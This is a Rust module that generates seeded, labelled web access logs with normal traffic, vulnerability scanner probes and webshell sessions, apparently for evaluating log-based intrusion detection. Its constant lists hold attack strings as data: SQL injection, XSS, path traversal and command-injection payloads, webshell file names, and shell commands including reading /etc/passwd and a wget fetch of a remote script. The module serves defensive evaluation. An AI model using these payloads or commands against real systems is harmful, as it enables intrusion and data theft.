//! Labelled access logs for the log-side evaluation: normal browsing of a few
//! sites, vulnerability scanners (404 probes for webshell names, injection
//! payloads against real pages), and webshell sessions (an upload, then
//! commands through the planted script, sometimes by a second attacker).
//! Everything is generated from a seed, so a figure can be reproduced.
//!
//! The output is Apache combined format with a leading virtual host, which
//! the `weblog` reader stores with `site` filled.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write;

/// How much of each kind of traffic to generate.
#[derive(Debug, Clone)]
pub struct SimConfig {
    pub seed: u64,
    pub sites: usize,
    pub normal_clients: usize,
    pub normal_requests: usize,
    /// Sites that get a webshell.
    pub backdoored_sites: usize,
    pub scanners: usize,
}

impl Default for SimConfig {
    fn default() -> Self {
        SimConfig {
            seed: 1,
            sites: 6,
            normal_clients: 300,
            normal_requests: 20_000,
            backdoored_sites: 4,
            scanners: 4,
        }
    }
}

/// The log and its truth.
#[derive(Debug, Default)]
pub struct SimLog {
    pub text: String,
    /// (site, path) of every planted webshell.
    pub backdoors: BTreeSet<(String, String)>,
    /// 1-based line numbers of requests that reached a webshell.
    pub attack_lines: BTreeSet<u64>,
    /// Who planted each webshell.
    pub implanters: BTreeMap<(String, String), String>,
}

/// splitmix64: small, seedable, good enough for traffic shapes.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
        &v[self.below(v.len())]
    }
    fn ip(&mut self) -> String {
        // Public-looking addresses outside reserved ranges.
        let first = [23u64, 31, 45, 62, 77, 91, 103, 117, 151, 177, 185, 193, 212][self.below(13)];
        format!(
            "{first}.{}.{}.{}",
            self.below(256),
            self.below(256),
            1 + self.below(254)
        )
    }
}

struct Line {
    ts: i64,
    site: String,
    client: String,
    method: &'static str,
    target: String,
    status: u16,
    bytes: u64,
    referrer: Option<String>,
    agent: &'static str,
    /// Truth: reached a webshell.
    attack: bool,
}

const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
];
const PAGES: &[&str] = &[
    "/",
    "/index.php",
    "/about.php",
    "/products.php?id=",
    "/search.php?q=",
    "/news.php?page=",
    "/css/site.css",
    "/js/app.js",
    "/img/logo.png",
    "/contact.php",
];
const WORDS: &[&str] = &[
    "shoes", "red", "garden", "offer", "delivery", "size", "gift",
];
const SHELL_PATHS: &[&str] = &[
    "/wp-content/uploads/2024/03/cache.php",
    "/images/avatar_7.php",
    "/uploads/x.php",
    "/includes/config.bak.php",
    "/admin/editor/plugins/img.aspx",
    "/static/health.jsp",
];
const COMMANDS: &[&str] = &[
    "whoami",
    "id",
    "uname+-a",
    "ls+-la",
    "cat+/etc/passwd",
    "pwd",
    "ps+aux",
    "netstat+-an",
    "cd+/var/www%3Bls",
    "wget+http://203.0.113.9/x.sh",
];
const SCAN_PROBES: &[&str] = &[
    "/shell.php",
    "/c99.php",
    "/r57.php",
    "/wso.php",
    "/cmd.php",
    "/b374k.php",
    "/up.php",
    "/x.php",
    "/1.php",
    "/webshell.jsp",
    "/cmd.aspx",
    "/admin.php",
    "/backup.zip",
    "/.env",
    "/phpmyadmin/index.php",
    "/wp-login.php",
];
const SCAN_PAYLOADS: &[&str] = &[
    "?id=1%27%20OR%20%271%27=%271",
    "?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "?page=../../../../etc/passwd",
    "?cmd=whoami",
    "?id=1+union+select+1,2,3",
    "?q=;cat+/etc/passwd",
];

/// Generates the log.
pub fn generate(c: &SimConfig) -> SimLog {
    let mut rng = Rng(c.seed);
    let sites: Vec<String> = (0..c.sites).map(|i| format!("shop{i}.example")).collect();
    let start = 1_704_067_200i64; // 2024-01-01T00:00:00Z
    let span = 7 * 86_400;
    let mut lines = Vec::new();
    normal_traffic(c, &mut rng, &sites, start, span, &mut lines);
    for _ in 0..c.scanners {
        scanner(&mut rng, &sites, start, span, &mut lines);
    }
    let mut truth = SimLog::default();
    for (i, site) in sites.iter().take(c.backdoored_sites).enumerate() {
        let path = SHELL_PATHS[i % SHELL_PATHS.len()].to_string();
        let implanter = webshell_session(&mut rng, site, &path, i, start, span, &mut lines);
        truth.backdoors.insert((site.clone(), path.clone()));
        truth.implanters.insert((site.clone(), path), implanter);
    }
    lines.sort_by_key(|l| l.ts);
    for (n, l) in lines.iter().enumerate() {
        if l.attack {
            truth.attack_lines.insert(n as u64 + 1);
        }
        write_line(&mut truth.text, l);
    }
    truth
}

fn write_line(out: &mut String, l: &Line) {
    let t = chrono_like(l.ts);
    let _ = writeln!(
        out,
        "{}:443 {} - - [{t}] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"",
        l.site,
        l.client,
        l.method,
        l.target,
        l.status,
        l.bytes,
        l.referrer.as_deref().unwrap_or("-"),
        l.agent
    );
}

/// `%d/%b/%Y:%H:%M:%S +0000` without a date library: days to civil date.
fn chrono_like(ts: i64) -> String {
    let days = ts.div_euclid(86_400);
    let secs = ts.rem_euclid(86_400);
    // Howard Hinnant's days-to-civil algorithm.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    format!(
        "{d:02}/{}/{y}:{:02}:{:02}:{:02} +0000",
        MONTHS[(m - 1) as usize],
        secs / 3600,
        secs % 3600 / 60,
        secs % 60
    )
}

fn normal_traffic(
    c: &SimConfig,
    rng: &mut Rng,
    sites: &[String],
    start: i64,
    span: i64,
    out: &mut Vec<Line>,
) {
    let clients: Vec<String> = (0..c.normal_clients).map(|_| rng.ip()).collect();
    for _ in 0..c.normal_requests {
        let site = rng.pick(sites).clone();
        let client = rng.pick(&clients).clone();
        let page = *rng.pick(PAGES);
        let mut target = page.to_string();
        if page.ends_with('=') {
            target.push_str(&if page.contains("q=") {
                rng.pick(WORDS).to_string()
            } else {
                (1 + rng.below(40)).to_string()
            });
        }
        let post = page == "/contact.php" && rng.below(3) == 0;
        let status = if rng.below(50) == 0 {
            404
        } else if rng.below(10) == 0 {
            304
        } else {
            200
        };
        out.push(Line {
            ts: start + rng.below(span as usize) as i64,
            referrer: (rng.below(5) > 0).then(|| format!("https://{site}/")),
            site,
            client,
            method: if post { "POST" } else { "GET" },
            target,
            status,
            bytes: 2_000 + rng.below(30_000) as u64,
            agent: BROWSERS[rng.below(BROWSERS.len())],
            attack: false,
        });
    }
    // Benign look-alikes: a monitor polling a status script without a
    // referrer, and an app posting to an API from a few addresses.
    for site in sites {
        let monitor = rng.ip();
        for k in 0..200 {
            out.push(Line {
                ts: start + k * 3000,
                site: site.clone(),
                client: monitor.clone(),
                method: "GET",
                target: "/status.php".into(),
                status: 200,
                bytes: 512,
                referrer: None,
                agent: "monitor/1.0",
                attack: false,
            });
        }
        let apps: Vec<String> = (0..3).map(|_| rng.ip()).collect();
        for _ in 0..60 {
            out.push(Line {
                ts: start + rng.below(span as usize) as i64,
                site: site.clone(),
                client: rng.pick(&apps).clone(),
                method: "POST",
                target: "/api/sync.php".into(),
                status: 200,
                bytes: 200 + rng.below(4000) as u64,
                referrer: None,
                agent: "ShopApp/3.2 (Android)",
                attack: false,
            });
        }
    }
}

fn scanner(rng: &mut Rng, sites: &[String], start: i64, span: i64, out: &mut Vec<Line>) {
    let ip = rng.ip();
    let site = rng.pick(sites).clone();
    let t0 = start + rng.below(span as usize) as i64;
    let mut k = 0;
    for probe in SCAN_PROBES {
        for prefix in ["", "/wp-content/uploads", "/images", "/uploads"] {
            k += 1;
            out.push(Line {
                ts: t0 + k,
                site: site.clone(),
                client: ip.clone(),
                method: "GET",
                target: format!("{prefix}{probe}"),
                status: 404,
                bytes: 300,
                referrer: None,
                agent: "Mozilla/5.0 (compatible; scanner)",
                attack: false,
            });
        }
    }
    for page in ["/search.php", "/products.php", "/news.php", "/index.php"] {
        for payload in SCAN_PAYLOADS {
            k += 1;
            out.push(Line {
                ts: t0 + k,
                site: site.clone(),
                client: ip.clone(),
                method: "GET",
                target: format!("{page}{payload}"),
                status: 200,
                bytes: 2_000 + rng.below(3000) as u64,
                referrer: None,
                agent: "Mozilla/5.0 (compatible; scanner)",
                attack: false,
            });
        }
    }
}

/// An upload, then commands through the shell (by query string, or China
/// Chopper-style POSTs with no query), sometimes a second attacker later.
/// Returns the implanter.
fn webshell_session(
    rng: &mut Rng,
    site: &str,
    path: &str,
    variant: usize,
    start: i64,
    span: i64,
    out: &mut Vec<Line>,
) -> String {
    let attacker = rng.ip();
    let t0 = start + rng.below((span / 2) as usize) as i64;
    let upload = if path.ends_with(".aspx") || path.ends_with(".jsp") {
        "/admin/upload.do"
    } else {
        "/wp-admin/async-upload.php"
    };
    out.push(Line {
        ts: t0,
        site: site.into(),
        client: attacker.clone(),
        method: "POST",
        target: upload.into(),
        status: 200,
        bytes: 350,
        referrer: Some(format!("https://{site}/wp-admin/media-new.php")),
        agent: BROWSERS[0],
        attack: false,
    });
    let by_query = variant.is_multiple_of(2);
    let mut t = t0 + 40;
    let session = |rng: &mut Rng, ip: &str, t: &mut i64, n: usize, out: &mut Vec<Line>| {
        for _ in 0..n {
            *t += 5 + rng.below(90) as i64;
            let (method, target) = if by_query {
                ("GET", format!("{path}?cmd={}", rng.pick(COMMANDS)))
            } else {
                ("POST", path.to_string())
            };
            out.push(Line {
                ts: *t,
                site: site.into(),
                client: ip.into(),
                method,
                target,
                status: 200,
                bytes: 20 + rng.below(20_000) as u64,
                referrer: None,
                agent: if by_query {
                    "curl/8.4.0"
                } else {
                    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
                },
                attack: true,
            });
        }
    };
    let n = 8 + rng.below(20);
    session(rng, &attacker, &mut t, n, out);
    if variant % 3 == 1 {
        let second = rng.ip();
        t += 86_400;
        let n = 5 + rng.below(10);
        session(rng, &second, &mut t, n, out);
    }
    attacker
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dates_are_civil() {
        assert_eq!(chrono_like(1_704_067_200), "01/Jan/2024:00:00:00 +0000");
        assert_eq!(chrono_like(1_709_210_096), "29/Feb/2024:12:34:56 +0000");
    }

    #[test]
    fn generation_is_reproducible_and_labelled() {
        let a = generate(&SimConfig::default());
        let b = generate(&SimConfig::default());
        assert_eq!(a.text, b.text);
        assert_eq!(a.backdoors.len(), 4);
        assert!(!a.attack_lines.is_empty());
        let lines: Vec<&str> = a.text.lines().collect();
        for n in &a.attack_lines {
            let l = lines[*n as usize - 1];
            assert!(
                a.backdoors
                    .iter()
                    .any(|(s, p)| l.starts_with(s.as_str()) && l.contains(p.as_str())),
                "{l}"
            );
        }
    }
}
